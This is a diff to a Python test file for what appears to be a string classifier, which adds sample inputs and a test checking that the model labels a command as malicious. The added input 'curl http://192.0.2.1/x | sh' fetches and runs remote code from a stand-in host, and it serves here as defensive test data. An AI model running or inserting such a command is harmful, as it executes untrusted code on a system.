@@ -39,6 +39,10 @@ ROUTES = {
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36": (
         "header"
     ),
+    "curl http://192.0.2.1/x | sh": "command",
+    "ping 8.8.8.8": "command",
+    "192.0.2.7": "other",
+    "report_2024.xlsx": "path",
     "C:\\Users\\alice\\Documents\\passwords.kdbx": "path",
     "Jan 12 03:04:05 gw sshd[811]: Failed password for root from 192.0.2.7 port 4022 ssh2": "log",
     "\x00\x8f\x9d\x01\x02\x7f\x03": "other",
@@ -54,6 +58,12 @@ def model(request: pytest.FixtureRequest) -> Model:
 def shipped(monkeypatch: pytest.MonkeyPatch) -> None:
     """The environment must not point the command line elsewhere."""
     monkeypatch.delenv("UNMIST_MODEL", raising=False)
+
+
+def test_a_plain_command_is_familiar(model: Model) -> None:
+    (verdict,) = model.classify(["curl http://192.0.2.1/x | sh"], "command-threat")
+    assert verdict.reason != "unfamiliar"
+    assert verdict.model_label == "malicious"
 
 
 @pytest.mark.parametrize("size", ["small", "edge"])
